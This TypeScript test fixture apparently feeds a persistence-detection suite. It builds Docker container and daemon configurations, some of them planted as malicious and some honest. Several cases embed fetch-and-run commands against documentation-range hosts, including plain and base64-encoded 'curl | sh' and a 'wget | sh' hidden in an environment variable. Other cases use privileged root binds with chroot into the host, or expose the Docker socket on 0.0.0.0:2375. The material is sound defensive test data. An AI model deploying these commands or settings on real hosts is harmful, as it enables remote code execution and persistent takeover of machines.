/** Cases of Docker; nothing in them is ever run, all addresses are of the documentation ranges. */
import { type Files, inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

interface Settings {
  readonly id?: string;
  readonly image: string;
  readonly name: string;
  readonly path: string;
  readonly args?: readonly string[];
  readonly env?: readonly string[];
  readonly labels?: Readonly<Record<string, string>>;
  readonly health?: readonly string[];
  readonly running?: boolean;
  readonly host?: Readonly<Record<string, unknown>>;
}

export const idOf = (name: string): string => new Bun.CryptoHasher('sha256').update(name).digest('hex');
const root = '/var/lib/docker';

/** The two files that Docker keeps of a container, as moby writes them. */
export function dockerFiles(one: Settings, base = root): Files {
  const id = one.id ?? idOf(one.name);
  const args = one.args ?? [];
  const config = {
    StreamConfig: {},
    State: { Running: one.running ?? true, StartedAt: '2026-03-02T04:05:06.789Z', Pid: 4242 },
    ID: id,
    Created: '2026-03-02T04:05:05.123456789Z',
    Managed: false,
    Path: one.path,
    Args: args,
    Config: {
      Hostname: id.slice(0, 12),
      User: '',
      Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', ...(one.env ?? [])],
      Cmd: args,
      Image: one.image,
      Entrypoint: [one.path],
      Labels: one.labels ?? {},
      ...(one.health === undefined ? {} : { Healthcheck: { Test: one.health } }),
    },
    Image: `sha256:${idOf(one.image)}`,
    Name: `/${one.name}`,
    Driver: 'overlay2',
    RestartCount: 0,
    HasBeenManuallyStopped: false,
  };
  const host = {
    Binds: null,
    NetworkMode: 'bridge',
    RestartPolicy: { Name: 'unless-stopped', MaximumRetryCount: 0 },
    CapAdd: null,
    PidMode: '',
    IpcMode: 'private',
    Privileged: false,
    Devices: [],
    ...one.host,
  };
  return {
    [`${base}/containers/${id}/config.v2.json`]: JSON.stringify(config),
    [`${base}/containers/${id}/hostconfig.json`]: JSON.stringify(host),
  };
}

const fetches = 'apk add curl; curl -fsSL http://192.0.2.80/d.sh | sh';
const always = { RestartPolicy: { Name: 'always', MaximumRetryCount: 0 } };
const foreign = '/usr/lib/gvfs/gvfsd-net';
const program = { [foreign]: inertProgram() };
const owned = '/usr/share/svc/run';
const packaged = { [owned]: '#!/bin/sh\nexit 0\n' };
const edited = { [owned]: '#!/bin/sh\n/usr/bin/env true &\nexit 0\n' };

const containers: readonly MechanismCase[] = [
  {
    mechanism: 'docker-container',
    dress: 'fetch-and-run',
    what: 'a small image with / bound in, a shell that fetches, and a restart policy',
    planted: dockerFiles({
      image: 'alpine',
      name: 'quirky_noether',
      path: 'sh',
      args: ['-c', fetches],
      host: { ...always, Binds: ['/:/mnt'], Privileged: true },
    }),
  },
  {
    mechanism: 'docker-container',
    dress: 'fetch-and-run',
    what: 'a job of cron for the host, encoded, written through a bind',
    planted: dockerFiles({
      image: 'ubuntu:22.04',
      name: 'web',
      path: '/bin/bash',
      args: [
        '-c',
        `echo ${Buffer.from('curl -s http://192.0.2.81/x | bash').toString('base64')} | base64 -d | chroot /host bash`,
      ],
      host: { ...always, Binds: ['/:/host:rw'], PidMode: 'host' },
    }),
  },
  {
    mechanism: 'docker-container',
    dress: 'fetch-and-run',
    what: 'a command that hides in a variable, below a root of data that the settings name',
    planted: {
      '/etc/docker/daemon.json': '{"data-root": "/srv/.d"}\n',
      ...dockerFiles(
        {
          image: 'alpine',
          name: 'pause',
          path: 'sh',
          args: ['-c', 'eval "$Q"'],
          env: ['Q=wget -qO- http://192.0.2.82/a|sh'],
          host: always,
        },
        '/srv/.d',
      ),
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'fetch-and-run',
    what: 'a check of health that fetches',
    planted: dockerFiles({
      image: 'nginx',
      name: 'front',
      path: '/docker-entrypoint.sh',
      args: ['nginx'],
      health: ['CMD-SHELL', 'wget -qO- http://192.0.2.91/h | sh'],
    }),
  },
  {
    mechanism: 'docker-container',
    dress: 'unowned-binary',
    what: 'a program of the host beside those of packages, through a bind',
    planted: {
      ...dockerFiles({
        image: 'busybox',
        name: 'helper',
        path: '/g/gvfsd-net',
        host: { ...always, Binds: ['/usr/lib/gvfs:/g'] },
      }),
      ...program,
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'unowned-binary',
    what: 'a program of the host, after a change of root into it',
    planted: {
      ...dockerFiles({
        image: 'alpine',
        name: 'helper',
        path: 'chroot',
        args: ['/mnt', foreign],
        host: { ...always, Binds: ['/:/mnt'] },
      }),
      ...program,
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'owned-edit',
    what: 'a script of a package that was edited, through a bind',
    packaged,
    planted: {
      ...dockerFiles({
        image: 'debian',
        name: 'svc',
        path: '/bin/sh',
        args: ['/svc/run'],
        host: { ...always, Binds: ['/usr/share/svc:/svc:ro'] },
      }),
      ...edited,
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'honest',
    what: 'a web stack that comes back after every start of the host',
    planted: {
      ...dockerFiles({
        image: 'nginx:1.27',
        name: 'site-web-1',
        health: ['CMD-SHELL', 'curl -fsS http://127.0.0.1/ping || exit 1'],
        path: '/docker-entrypoint.sh',
        args: ['nginx', '-g', 'daemon off;'],
        host: {
          ...always,
          Binds: ['/srv/site/html:/usr/share/nginx/html:ro', '/etc/localtime:/etc/localtime:ro'],
        },
      }),
      ...dockerFiles({
        image: 'postgres:16',
        name: 'site-db-1',
        path: 'docker-entrypoint.sh',
        args: ['postgres'],
        env: ['POSTGRES_PASSWORD=example'],
        host: { ...always, Mounts: [{ Type: 'volume', Source: 'pg', Target: '/var/lib/postgresql/data' }] },
      }),
      ...dockerFiles({
        image: 'redis:7',
        name: 'site-cache-1',
        path: 'docker-entrypoint.sh',
        args: ['sh', '-c', 'redis-server --requirepass "$REDIS_PASSWORD"'],
        env: ['REDIS_PASSWORD=example'],
        host: always,
      }),
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'honest',
    what: 'management and monitoring: Portainer, Watchtower, node-exporter, cAdvisor, Traefik',
    planted: {
      ...dockerFiles({
        image: 'portainer/portainer-ce:2.21.4',
        name: 'portainer',
        path: '/portainer',
        host: { ...always, Binds: ['/var/run/docker.sock:/var/run/docker.sock', 'portainer_data:/data'] },
      }),
      ...dockerFiles({
        image: 'containrrr/watchtower',
        name: 'watchtower',
        path: '/watchtower',
        args: ['--cleanup', '--interval', '86400'],
        host: { ...always, Binds: ['/var/run/docker.sock:/var/run/docker.sock'] },
      }),
      ...dockerFiles({
        image: 'prom/node-exporter:v1.8.2',
        name: 'node-exporter',
        path: '/bin/node_exporter',
        args: ['--path.rootfs=/host'],
        host: { Binds: ['/:/host:ro,rslave'], PidMode: 'host', NetworkMode: 'host' },
      }),
      ...dockerFiles({
        image: 'gcr.io/cadvisor/cadvisor:v0.49.1',
        name: 'cadvisor',
        path: '/usr/bin/cadvisor',
        args: ['-logtostderr'],
        host: {
          Binds: [
            '/:/rootfs:ro',
            '/var/run:/var/run:rw',
            '/sys:/sys:ro',
            '/var/lib/docker/:/var/lib/docker:ro',
          ],
          Privileged: true,
          Devices: [{ PathOnHost: '/dev/kmsg', PathInContainer: '/dev/kmsg' }],
        },
      }),
      ...dockerFiles({
        image: 'traefik:v3.2',
        name: 'coolify-proxy',
        path: '/entrypoint.sh',
        args: ['--ping=true', '--entrypoints.http.address=:80'],
        host: { Binds: ['/var/run/docker.sock:/var/run/docker.sock:ro', '/data/coolify/proxy:/traefik'] },
      }),
    },
  },
  {
    mechanism: 'docker-container',
    dress: 'honest',
    what: 'a home server: Home Assistant, Pi-hole, a VPN, a media server',
    planted: {
      ...dockerFiles({
        image: 'ghcr.io/home-assistant/home-assistant:stable',
        name: 'homeassistant',
        path: '/init',
        host: {
          NetworkMode: 'host',
          Privileged: true,
          Binds: ['/home/ada/.homeassistant:/config', '/run/dbus:/run/dbus:ro'],
        },
      }),
      ...dockerFiles({
        image: 'linuxserver/wireguard',
        name: 'wireguard',
        path: '/init',
        host: { CapAdd: ['NET_ADMIN', 'SYS_MODULE'], Binds: ['/lib/modules:/lib/modules:ro'] },
      }),
      ...dockerFiles({
        image: 'jellyfin/jellyfin',
        name: 'jellyfin',
        path: '/jellyfin/jellyfin',
        host: {
          Devices: [{ PathOnHost: '/dev/dri', PathInContainer: '/dev/dri' }],
          Binds: ['/srv/media:/media:ro'],
        },
      }),
    },
  },
];

const daemon: readonly MechanismCase[] = [
  {
    mechanism: 'docker-daemon',
    dress: 'fetch-and-run',
    what: 'the socket opened to all, and a mirror at a bare address',
    planted: {
      '/etc/docker/daemon.json':
        '{\n  "hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"],\n  "registry-mirrors": ["http://192.0.2.83:5000"]\n}\n',
    },
  },
  {
    mechanism: 'docker-daemon',
    dress: 'unowned-binary',
    what: 'a runtime beside programs of packages',
    planted: {
      '/etc/docker/daemon.json':
        '{\n  "default-runtime": "net",\n  "runtimes": { "net": { "path": "/usr/lib/gvfs/gvfsd-net" } }\n}\n',
      ...program,
    },
  },
  {
    mechanism: 'docker-daemon',
    dress: 'owned-edit',
    what: 'options of the package, with the socket opened',
    packaged: { '/etc/default/docker': '#DOCKER_OPTS="--dns 192.168.1.1"\n' },
    conffiles: ['/etc/default/docker'],
    planted: {
      '/etc/default/docker': 'DOCKER_OPTS="-H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock"\n',
    },
  },
  {
    mechanism: 'docker-daemon',
    dress: 'honest',
    what: 'logs, a mirror by name, a registry nearby, the runtime of a graphics card, plugins of a developer',
    packaged: { '/usr/bin/nvidia-container-runtime': inertProgram(2100) },
    planted: {
      '/etc/docker/daemon.json':
        '{\n  "log-driver": "json-file",\n  "log-opts": { "max-size": "10m" },\n  "exec-opts": ["native.cgroupdriver=systemd"],\n  "registry-mirrors": ["https://mirror.example.com"],\n  "insecure-registries": ["10.0.0.5:5000", "registry.lan:5000"],\n  "default-runtime": "nvidia",\n  "runtimes": { "nvidia": { "path": "/usr/bin/nvidia-container-runtime", "runtimeArgs": [] } }\n}\n',
      '/home/ada/.docker/config.json':
        '{ "credsStore": "pass", "credHelpers": { "123.dkr.ecr.eu-west-1.amazonaws.com": "ecr-login" } }',
      '/home/ada/.docker/cli-plugins/docker-compose': inertProgram(),
    },
  },
];

export const cases: readonly MechanismCase[] = [...containers, ...daemon];
